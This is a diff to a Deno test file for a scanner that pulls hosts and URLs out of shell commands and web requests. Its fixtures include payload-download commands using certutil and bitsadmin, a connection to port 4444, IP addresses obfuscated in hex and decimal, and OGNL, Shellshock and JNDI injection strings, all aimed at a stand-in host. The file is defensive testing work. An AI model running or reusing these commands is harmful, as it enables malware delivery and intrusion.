@@ -27,6 +27,39 @@ const COMMANDS: Readonly<Record<string, readonly string[]>> = {
     "evil.example",
     "http://evil.example/it",
   ],
+  "certutil -urlcache -split -f evil.example/x.txt x.exe": [
+    "evil.example",
+    "http://evil.example/x.txt",
+  ],
+  "certutil -ping evil.example": ["evil.example"],
+  "certutil -decode in.data out.data": [],
+  "bitsadmin /transfer j evil.example/a.exe C:\\a.exe": [
+    "evil.example",
+    "http://evil.example/a.exe",
+  ],
+  'curl -H "Host: evil.example" a.example': ["evil.example", "a.example"],
+  'wget --header="Host: evil.example" a.example': ["evil.example", "a.example"],
+  "iwr a.example -Headers @{Host='evil.example'}": [
+    "evil.example",
+    "a.example",
+  ],
+  'curl -H "Referer: evil.example" a.example': ["a.example"],
+  "curl -x evil.example:8080 a.example": ["evil.example", "a.example"],
+  "curl --proxy evil.example:8080 a.example": ["evil.example", "a.example"],
+  "curl --connect-to ::evil.example:443 a.example": [
+    "evil.example",
+    "a.example",
+  ],
+  "wget -x evil.example/a": ["evil.example", "http://evil.example/a"],
+  "ping 0xb9f41f9e": ["185.244.31.158"],
+  "ping -n 1 3119783838": ["185.244.31.158"],
+  "curl 0xb9.0xf4.0x1f.0x9e": ["185.244.31.158"],
+  "echo 3119783838": [],
+  "net.connect(4444,'evil.example')": ["evil.example"],
+  "net.createConnection({port:4444,host:'evil.example'})": ["evil.example"],
+  "search-ms:query=a&crumb=location:\\\\evil.example@80\\DavWWWRoot": [
+    "evil.example",
+  ],
   "curl -H a.example -A b.example evil.example": ["evil.example"],
   "ping -c 1 evil.example; ls a.b.conf": ["evil.example"],
   "ping -n 1 9.8.7.6": ["9.8.7.6"],
@@ -144,7 +177,7 @@ const COMMANDS: Readonly<Record<string, readonly string[]>> = {
   "curl -H 'X: a.ru' -A 'Mozilla/5.0 b.ru' --data-raw 'h=c.ru' evil.example": [
     "evil.example",
   ],
-  "wget --user-agent=a.ru --header='Host: b.ru' evil.example": ["evil.example"],
+  "wget --user-agent=a.ru --header='Via: b.ru' evil.example": ["evil.example"],
   'iwr ht""""tp://evil.example/x': ["http://evil.example/x", "evil.example"],
   "kubectl set image deployment/web web=evil.example/web:2": ["evil.example"],
   [
@@ -204,6 +237,25 @@ Deno.test("findInCommand() finds what a command names", async (t) => {
   }
 });
 
+Deno.test("a command's namespaces and vendors' links are skipped, and said to be", () => {
+  const script = `<a xmlns="http://ns.example/a">; # https://aka.ms/a
+    $xmlns="http://evil.example/a"; iwr http://ns.example/a`;
+  assertEquals(
+    [...findInCommand(script, "f")].map((one) => [
+      one.text,
+      "reason" in one ? one.reason : one.kind,
+    ]),
+    [
+      ["http://ns.example/a", "the name of an XML namespace"],
+      ["https://aka.ms/a", "a vendor's page"],
+      ["http://evil.example/a", "url"],
+      ["evil.example", "host"],
+      ["http://ns.example/a", "url"],
+      ["ns.example", "host"],
+    ],
+  );
+});
+
 const REQUESTS: Readonly<Record<string, readonly string[]>> = {
   "/i.php?c=wget%20http://evil.example/x%20-O%20t": [
     "http://evil.example/x",
@@ -217,6 +269,10 @@ const REQUESTS: Readonly<Record<string, readonly string[]>> = {
   "/;nslookup$IFS'evil.example'": ["evil.example"],
   [`/x.php?c=eval(base64_decode('${btoa("curl evil.example")}'))`]: [
     "evil.example",
+  ],
+  "/${(#a=@T@x(#b.exec(%22curl%20evil.example/a%22)))}/": [
+    "evil.example",
+    "http://evil.example/a",
   ],
   "() { :;}; /bin/bash -c 'ping evil.example'": ["evil.example"],
   "${jndi:ldap://evil.example:1389/a}": [
@@ -293,6 +349,9 @@ const HOSTILE: Readonly<Record<string, (n: number) => string>> = {
   "images": (n) => "docker pull a.io/x:".repeat(n / 19),
   "ports": (n) => "1:".repeat(n / 2),
   "options": (n) => "--server ".repeat(n / 9),
+  "namespaces": (n) => `<a ${" xmlns=".repeat(n / 7)}`,
+  "sockets": (n) => "connect({".repeat(n / 9),
+  "headers": (n) => "-H Host: a.io ".repeat(n / 14),
   "reversed": (n) => `| rev ${"| ver ".repeat(n / 6)}`,
 };
 
